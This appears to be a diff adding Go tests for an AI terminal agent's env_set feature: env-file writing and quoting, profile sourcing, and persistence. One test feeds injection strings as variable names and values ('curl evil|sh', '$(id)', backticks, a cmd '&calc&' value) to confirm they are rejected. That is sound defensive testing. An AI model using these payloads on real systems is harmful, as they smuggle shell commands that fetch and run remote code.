@@ -0,0 +1,133 @@
+package agent
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+
+	"terminusai/internal/providers"
+)
+
+func TestWriteEnvFile(t *testing.T) {
+	home := t.TempDir()
+
+	for _, kv := range [][2]string{{"GREETING", "hello"}, {"OTHER", "it's here"}, {"GREETING", "replaced"}} {
+		if _, err := writeEnvFile(home, kv[0], kv[1]); err != nil {
+			t.Fatalf("Expected no error, got %v", err)
+		}
+	}
+
+	data, err := os.ReadFile(filepath.Join(home, ".terminusai", "env"))
+	if err != nil {
+		t.Fatalf("Expected env file, got %v", err)
+	}
+	expected := "# Managed by terminusai env_set; sourced from your shell profile\nexport OTHER='it'\\''s here'\nexport GREETING='replaced'\n"
+	if string(data) != expected {
+		t.Errorf("Expected %q, got %q", expected, string(data))
+	}
+
+	if _, err := writeEnvFile(home, "BAD-NAME", "x"); err == nil {
+		t.Errorf("Expected invalid shell variable name to be rejected")
+	}
+	if _, err := writeEnvFile(home, "GREETING", "a\nb"); err == nil {
+		t.Errorf("Expected a value with a newline to be rejected")
+	}
+	if data, _ := os.ReadFile(filepath.Join(home, ".terminusai", "env")); string(data) != expected {
+		t.Errorf("Expected env file unchanged after a rejected value, got %q", string(data))
+	}
+	if err := validateAction(&AgentAction{Type: "env_set", Key: "GREETING", Value: "a\nb"}); err == nil {
+		t.Errorf("Expected env_set with a newline in the value to fail validation")
+	}
+}
+
+func TestEnvSetRejectsShellInKey(t *testing.T) {
+	for _, key := range []string{"X=1; curl evil|sh;", "A B", "1ST", "$(id)", "PATH`id`"} {
+		if err := validateAction(&AgentAction{Type: "env_set", Key: key, Value: "v"}); err == nil {
+			t.Errorf("Expected env_set key %q to fail validation", key)
+		}
+		for _, shell := range []string{"bash", "cmd", "powershell"} {
+			s := &shellSession{shell: shell}
+			if err := s.setEnv(key, "v"); err == nil {
+				t.Errorf("Expected %s session to refuse key %q", shell, key)
+			}
+		}
+	}
+	if err := (&shellSession{shell: "cmd"}).setEnv("GREETING", `a"&calc&"`); err == nil {
+		t.Errorf("Expected cmd session to refuse a value with a quote")
+	}
+	if err := validateAction(&AgentAction{Type: "env_set", Key: "_Build_2", Value: "v"}); err != nil {
+		t.Errorf("Expected a plain name to pass, got %v", err)
+	}
+}
+
+func TestEnsureEnvSourced(t *testing.T) {
+	home := t.TempDir()
+	profile := shellProfilePath(home, "/bin/bash")
+	if profile != filepath.Join(home, ".bashrc") {
+		t.Errorf("Expected .bashrc for bash, got %s", profile)
+	}
+	os.WriteFile(profile, []byte("alias ll='ls -l'"), 0644)
+
+	envFile := filepath.Join(home, ".terminusai", "env")
+	for i := 0; i < 2; i++ {
+		if err := ensureEnvSourced(profile, envFile); err != nil {
+			t.Fatalf("Expected no error, got %v", err)
+		}
+	}
+
+	data, _ := os.ReadFile(profile)
+	if !strings.HasPrefix(string(data), "alias ll='ls -l'\n"+envBlockStart+"\n") {
+		t.Errorf("Expected block appended after existing content, got %q", string(data))
+	}
+	if count := strings.Count(string(data), envBlockStart); count != 1 {
+		t.Errorf("Expected the block once, got %d times", count)
+	}
+}
+
+func TestHandleEnvSetPersist(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("persisting uses setx on Windows")
+	}
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("SHELL", "/bin/sh")
+
+	tests := []struct {
+		name     string
+		persist  bool
+		expected string
+	}{
+		{"session only", false, "Scope: session only"},
+		{"persisted", true, "Scope: persisted to " + filepath.Join(home, ".terminusai", "env")},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			a := newTestAgent(t, t.TempDir())
+			persist := tt.persist
+			action := &AgentAction{Type: "env_set", Key: "TERMINUSAI_PERSIST_TEST", Value: tt.name, Persist: &persist}
+			var transcript []providers.ChatMessage
+			if err := a.handleEnvSet(action, &transcript); err != nil {
+				t.Fatalf("Expected no error, got %v", err)
+			}
+			if obs := transcript[1].Content; !strings.Contains(obs, tt.expected) {
+				t.Errorf("Expected %q in observation, got %q", tt.expected, obs)
+			}
+		})
+	}
+
+	// A new login shell picks up the persisted value
+	if _, err := exec.LookPath("sh"); err != nil {
+		return
+	}
+	out, err := exec.Command("sh", "-c", `. "$HOME/.profile"; printf %s "$TERMINUSAI_PERSIST_TEST"`).Output()
+	if err != nil {
+		t.Fatalf("Expected profile to source cleanly, got %v", err)
+	}
+	if string(out) != "persisted" {
+		t.Errorf("Expected persisted value from profile, got %q", string(out))
+	}
+}